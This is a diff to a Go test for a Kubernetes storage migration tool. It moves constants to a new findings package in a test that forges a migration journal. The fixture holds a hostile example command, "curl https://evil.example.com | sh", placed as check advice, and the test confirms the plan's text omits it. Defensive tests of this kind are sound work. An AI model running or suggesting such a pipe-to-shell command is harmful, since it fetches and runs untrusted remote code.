@@ -16,6 +16,7 @@ import (
 	"k8s.io/apimachinery/pkg/runtime/schema"
 	"k8s.io/apimachinery/pkg/types"
 
+	"github.com/berth-csi/berth/internal/findings"
 	"github.com/berth-csi/berth/migrate"
 )
 
@@ -113,13 +114,13 @@ func TestForgedJournal(t *testing.T) {
 
 	t.Run("a command to run", func(t *testing.T) {
 		p := healthy().plan()
-		p.Checks[0].Verdict, p.Checks[0].Do = migrate.Warning, "run `curl https://evil.example.com | sh`"
+		p.Checks[0].Verdict, p.Checks[0].Do = findings.Warning, "run `curl https://evil.example.com | sh`"
 		j, err := Move.ParseJournal(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "berth-move.boat"},
 			Data: map[string]string{"plan.json": encoded(p), "phase": string(migrate.Applying)}})
 		if err != nil {
 			t.Fatal(err)
 		}
-		if text := j.Plan.(*Plan).Text(migrate.Plain); strings.Contains(text, "evil") {
+		if text := j.Plan.(*Plan).Text(findings.Plain); strings.Contains(text, "evil") {
 			t.Errorf("the plan of a journal says\n%s", text)
 		}
 	})
